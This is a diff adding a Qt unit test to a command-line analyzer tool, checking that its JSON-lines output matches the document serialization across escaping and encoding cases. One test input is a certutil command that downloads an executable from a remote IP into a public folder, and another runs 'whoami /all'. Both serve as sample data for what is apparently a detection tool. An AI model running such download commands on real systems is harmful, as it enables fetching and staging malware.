@@ -1,4 +1,5 @@
 // causa-cli analyze: readable output, --json, --jsonl with bad lines (SPEC §6, §11).
+#include "cmdline/commandlineanalyzer.h"
 #include "testutils.h"
 
 #include <QTest>
@@ -14,6 +15,7 @@ private Q_SLOTS:
     void jsonSingle();
     void readable();
     void jsonLinesWithBadLines();
+    void jsonLinesMatchDocument();
     void usageErrors();
 };
 
@@ -68,6 +70,37 @@ void TestCliAnalyze::jsonLinesWithBadLines()
                                     QStringLiteral("error"), QStringLiteral("benign"), QStringLiteral("benign"),
                                     QStringLiteral("benign")}));
     QVERIFY(r.out.contains("\"line\":2"));
+}
+
+// The stream's objects are the DOM's text (toJson plus "line"), whichever way each input line
+// is decoded: plain escapes, \u escapes, non-ASCII bytes, whitespace around the string.
+void TestCliAnalyze::jsonLinesMatchDocument()
+{
+    const QList<nlohmann::json> inputs = {
+        "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
+        "cmd /c \"echo \\\"quoted\\\" & whoami /all\"\t/b",
+        std::string("powershell -c \"Write-Host '\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9E'\"", 38),
+        std::string("nul\0inside / slash", 19),
+        "",
+    };
+    QByteArray input;
+    for (const nlohmann::json &j : inputs)
+        input += QByteArray::fromStdString(j.dump()) + '\n';
+    input += "\"a\\/b \\u0041\\ud834\\udd1e\"\n";
+    input += "  \"padded\"  \n";
+    const QStringList expected = {
+        QString::fromStdString(inputs[0].get<std::string>()), QString::fromStdString(inputs[1].get<std::string>()),
+        QString::fromStdString(inputs[2].get<std::string>()), QString::fromStdString(inputs[3].get<std::string>()),
+        QString(), QStringLiteral(u"a/b A\U0001D11E"), QStringLiteral("padded")};
+    const auto r = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
+    QCOMPARE(r.exitCode, 0);
+    const QList<QByteArray> lines = r.out.split('\n');
+    QCOMPARE(lines.size(), expected.size() + 1);
+    for (qsizetype i = 0; i < expected.size(); ++i) {
+        nlohmann::json dom = toJson(sharedCommandLineAnalyzer().analyze(expected[i]));
+        dom["line"] = i + 1;
+        QCOMPARE(lines[i], QByteArray::fromStdString(dom.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace)));
+    }
 }
 
 void TestCliAnalyze::usageErrors()
